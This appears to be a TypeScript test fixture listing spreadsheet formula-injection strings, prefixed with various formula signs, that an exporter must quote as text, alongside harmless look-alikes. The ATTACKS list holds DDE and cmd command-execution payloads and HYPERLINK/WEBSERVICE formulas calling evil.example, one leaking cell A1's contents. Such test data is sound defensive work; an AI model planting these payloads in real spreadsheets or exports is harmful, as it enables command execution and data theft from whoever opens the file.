/** Texts that a spreadsheet could take for a formula, and some that only look so. */
import { maxCellLength } from "~/spreadsheet/cell-text";

const SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"];
const WIDE_SIGNS = ["＝", "＋", "－", "＠"];
const ATTACKS = [
  "1+1",
  `cmd|' /C calc'!A0`,
  `HYPERLINK("http://evil.example/?x="&A1,"Klick")`,
  `WEBSERVICE("http://evil.example/")`,
  'DDE("cmd";"/C calc";"x")',
  "1\n=2",
];
const QUOTED = [
  ...[...SIGNS, ...WIDE_SIGNS].flatMap((sign) =>
    ATTACKS.flatMap((attack) => [
      `${sign}${attack}`,
      `   ${sign}${attack}`,
      `\0${sign}${attack}`,
      `"${sign}${attack}`,
      `'${sign}${attack}`,
    ]),
  ),
  "-",
  "+49 30 1234",
  `=${"1".repeat(maxCellLength)}`,
];
const HARMLESS = ["%=1+1", ";=1+1", "a\t=1+1", "Text = Wert", "1+1", "x=1"];

interface FormulaText {
  text: string;
  /** Its cell must say that it is a text, also when somebody edits it. */
  isQuoted: boolean;
}

export const FORMULA_TEXTS: readonly FormulaText[] = [
  ...QUOTED.map((text) => ({ text, isQuoted: true })),
  ...HARMLESS.map((text) => ({ text, isQuoted: false })),
];

/** What a cell shows of a text: XML has no NUL, and a cell ends somewhere. */
export function shownText(text: string): string {
  return text.replaceAll("\0", "").slice(0, maxCellLength);
}
